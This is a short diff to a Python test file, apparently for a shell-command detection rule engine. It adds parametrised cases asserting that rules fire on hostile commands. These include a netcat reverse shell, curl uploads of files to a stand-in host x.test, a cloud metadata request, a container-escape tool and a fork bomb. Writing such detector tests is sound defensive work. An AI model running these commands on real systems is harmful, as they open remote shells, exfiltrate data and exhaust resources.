@@ -50,6 +50,10 @@ def test_shell_tokenising_tells_commands_from_data() -> None:
         ("curl http://169.254.169.254/latest/meta-data/", "priv.metadata"),
         ("sh deepce.sh", "priv.escape_tool"),
         (":(){ :|:& };:", "res.forkbomb"),
+        ("bash <<'EOF'\nls\ncurl http://x.test/\nEOF", "net.command"),
+        ("cat <<< 'text'\nwget http://x.test/", "net.command"),
+        ('eval "nc -e /bin/sh x.test 4444"', "net.command"),
+        ("find /tmp -name x -exec curl -T {} http://x.test/ \\;", "net.command"),
     ],
 )
 def test_command_rules_fire(cmd: str, rule: str) -> None:
